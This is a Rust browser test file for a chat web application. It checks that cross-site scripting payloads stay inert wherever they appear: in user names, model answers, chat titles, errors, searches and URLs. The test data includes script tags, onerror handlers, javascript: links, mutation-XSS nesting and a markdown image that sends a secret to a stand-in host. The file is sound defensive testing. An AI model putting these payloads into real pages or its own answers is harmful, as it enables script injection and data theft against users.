//! Script and HTML in every field and in what models say: the pages stay inert.

use harness::openai::ApiError;
use harness::upstream::Script;
use harness::upstream::answer;
use serde_json::Value;

use crate::site::Site;

const HOSTILE: &str = "<img src=x onerror=\"window.pwned=1\"><script>window.pwned=2</script>";

/// Text of a model that tries to run as script or HTML.
const ANSWER: &str = "Seen.\n\n<script>window.pwned=3</script>\n<img src=x onerror=\"window.pwned=4\">\n\n\
    <iframe srcdoc=\"<script>parent.pwned=5</script>\"></iframe> <svg onload=\"window.pwned=6\"><a xlink:href=\"javascript:window.pwned=7\">x</a></svg>\n\n\
    [click](javascript:window.pwned=8) [data](data:text/html,<script>window.pwned=9</script>) [vb](vbscript:x)\n\n\
    ![picture](https://elsewhere.invalid/steal.png?q=secret)\n\n\
    <style>body{display:none}</style><form action=\"https://elsewhere.invalid\"><input name=q></form>\n\n\
    <a href=\"&#106;avascript:window.pwned=10\">x</a> <math><mtext><table><mglyph><style><img src=x onerror=window.pwned=11></style></mglyph></table></mtext></math>\n\n\
    ```js\"><img src=x onerror=window.pwned=12>\ncode\n```\n\n| a |\n|---|\n| <b onclick=window.pwned=13>b</b> |\n\n\
    [title](https://example.org \"\\\" onmouseover=window.pwned=14\")\n\nThe end.";

#[tokio::test]
async fn no_text_runs_as_script() -> anyhow::Result<()> {
    let Some(site) = Site::open("en-GB", "UTC").await? else { return Ok(()) };
    let browser = &site.browser;
    site.register("<b>ann</b><img src=x onerror=pwned=20>", &["--admin", "--note", HOSTILE]).await?;
    assert_eq!(browser.text(".user-name").await?, "<b>ann</b><img src=x onerror=pwned=20>");
    site.stack.upstream.respond_with(|request| answer(request, ANSWER));
    let path = site.converse(HOSTILE).await?;

    for _ in ["as it was streamed", "from the record"] {
        browser.read("The end.").await?;
        let live = "return [...document.querySelectorAll('.thread script, .thread iframe, .thread img, .thread svg:not(.icon), \
                    .thread style, .thread form, .thread input, .thread math, .thread object')].map((e) => e.outerHTML)";
        assert_eq!(browser.script(live, vec![]).await?, Value::Array(vec![]));
        let links = "return [...document.querySelectorAll('.thread .prose a[href]')].map((a) => a.protocol).filter((p) => !/^(https?|mailto):$/.test(p))";
        assert_eq!(browser.script(links, vec![]).await?, Value::Array(vec![]));
        let handlers = "return [...document.querySelectorAll('#app *')].flatMap((e) => e.getAttributeNames().filter((n) => n.startsWith('on')))";
        assert_eq!(browser.script(handlers, vec![]).await?, Value::Array(vec![]));
        assert_eq!(browser.text(".turn .bubble .plain-text").await?, HOSTILE);
        // Every remaining link is clicked.
        browser.script("for (const a of document.querySelectorAll('.thread .prose a')) { a.removeAttribute('target'); a.addEventListener('click', (e) => /^https?:$/.test(a.protocol) && e.preventDefault()); a.click(); }", vec![]).await?;
        browser.open(&path).await?;
    }

    // Hostile text in a title, in an error of the provider, in a search and in an address.
    browser.see(".chat-header .icon-button").await?;
    browser.click(".chat-header .icon-button").await?;
    browser.choose("Rename").await?;
    browser.type_over("dialog [name=title]", "<img src=x onerror=pwned=30>").await?;
    browser.choose("Save").await?;
    browser
        .until("document.querySelector('.list-body a[aria-current]')?.innerText === '<img src=x onerror=pwned=30>'")
        .await?;
    site.stack.upstream.respond_with(|_| Script::error(&ApiError::invalid(HOSTILE.into(), None)));
    site.ask("And an error?").await?;
    browser.read("The model did not answer.").await?;
    browser.type_into(".search input", HOSTILE).await?;
    browser.until("document.querySelectorAll('.list-body li').length === 1").await?;
    browser.type_into(".search input", "<b>no such thing</b>").await?;
    browser.read("Nothing found.").await?;
    browser.open("/c/%3Cimg%20src%3Dx%20onerror%3Dpwned%3D31%3E").await?;
    browser.read("The record has no conversation at this address.").await?;
    browser.open("/register?code=%22%3E%3Cimg%20src%3Dx%20onerror%3Dpwned%3D32%3E").await?;
    browser.see("[name=inviteCode]").await?;
    site.stack.settled().await?;
    for page in ["/settings", "/admin", "/admin/users", "/admin/failures", "/admin/invites"] {
        browser.open(page).await?;
        browser.see(if page.ends_with('s') && page != "/settings" { ".row" } else { ".tile" }).await?;
        let live = "return document.querySelectorAll('#app script, #app img, #app iframe').length";
        assert_eq!(browser.script(live, vec![]).await?, 0, "{page}");
    }
    assert_eq!(browser.script("return window.pwned ?? null", vec![]).await?, Value::Null);
    site.close().await
}

#[tokio::test]
async fn pages_request_no_other_host_and_cannot_be_framed() -> anyhow::Result<()> {
    let Some(site) = Site::open("en-GB", "UTC").await? else { return Ok(()) };
    let browser = &site.browser;
    site.register("ann", &[]).await?;
    site.converse("hello").await?;
    for page in ["/", "/settings", "/admin"] {
        browser.open(page).await?;
        browser.see("#main > *").await?;
        let hosts = "return [...new Set(performance.getEntriesByType('resource').map((e) => new URL(e.name).host))].filter((h) => h !== location.host)";
        assert_eq!(browser.script(hosts, vec![]).await?, Value::Array(vec![]), "{page}");
    }
    let listen = "window.refused = []; document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective))";
    browser.script(listen, vec![]).await?;
    // The Content Security Policy stops even an injected script from turning text into HTML or adding an inline style.
    let tried = "try { document.createElement('div').innerHTML = '<b>x</b>'; return 'done' } catch (error) { return error.name }";
    assert_eq!(browser.script(tried, vec![]).await?, "TypeError");
    let inline = "const s = document.createElement('style'); s.textContent = 'body{outline:9px solid}'; document.head.append(s); return getComputedStyle(document.body).outlineWidth";
    assert_ne!(browser.script(inline, vec![]).await?, "9px");
    browser.until("refused.includes('require-trusted-types-for') && refused.includes('style-src-elem')").await?;
    // The browser logs these two refusals; no other complaint may be logged.
    let complaints = browser.complaints().await?;
    let is_of_them = |c: &String| c.contains("Content Security Policy") || c.contains("TrustedHTML");
    assert!(complaints.iter().all(is_of_them), "{complaints:?}");
    site.close().await
}
